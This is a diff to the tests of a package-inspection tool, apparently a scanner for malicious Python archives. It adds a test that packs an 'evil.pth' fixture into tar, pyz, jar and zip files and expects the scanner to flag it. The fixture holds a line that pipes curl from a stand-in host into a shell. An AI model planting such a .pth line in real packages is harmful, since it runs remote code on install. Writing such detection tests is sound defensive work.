@@ -2,7 +2,9 @@
 
 from __future__ import annotations
 
+import io
 import json
+import tarfile
 import zipfile
 from collections.abc import Iterator
 from pathlib import Path
@@ -75,6 +77,7 @@ def test_inspect_takes_folders_and_writes_json(tmp_path: Path) -> None:
 def test_inspect_of_what_is_not_there_names_the_next_step(tmp_path: Path) -> None:
     done = CliRunner().invoke(main, ["inspect", str(tmp_path / "gone.whl")])
     assert done.exit_code == 2
+    assert "there is no file or folder" in done.output
     assert "NAME==VERSION" in done.output
     done = CliRunner().invoke(main, ["inspect", "--offline", "demo==1.0"])
     assert done.exit_code == 3
@@ -90,3 +93,19 @@ def test_a_folder_of_wheels_is_inspected_wheel_by_wheel(tmp_path: Path) -> None:
     done = CliRunner().invoke(main, ["inspect", "--offline", str(tmp_path / "wheels")])
     assert done.exit_code == 1, done.output
     assert "evil.pth" in done.output
+
+
+@pytest.mark.parametrize("name", ["app.tar", "app.pyz", "lib.jar", "APP.ZIP"])
+def test_every_kind_of_archive_in_a_folder_is_looked_into(tmp_path: Path, name: str) -> None:
+    """Those that are no release were files like others, and the folder passed."""
+    line = b"import os;os.system('curl https://x.example/a | sh')\n"
+    with tarfile.open(tmp_path / name, "w") if name.endswith("tar") else zipfile.ZipFile(tmp_path / name, "w") as packed:
+        if isinstance(packed, zipfile.ZipFile):
+            packed.writestr("evil.pth", line)
+        else:
+            member = tarfile.TarInfo("evil.pth")
+            member.size = len(line)
+            packed.addfile(member, io.BytesIO(line))
+    (tmp_path / "mine.py").write_text("x = 1\n")
+    done = CliRunner().invoke(main, ["inspect", "--offline", str(tmp_path)])
+    assert (done.exit_code, "evil.pth" in done.output) == (1, True), done.output
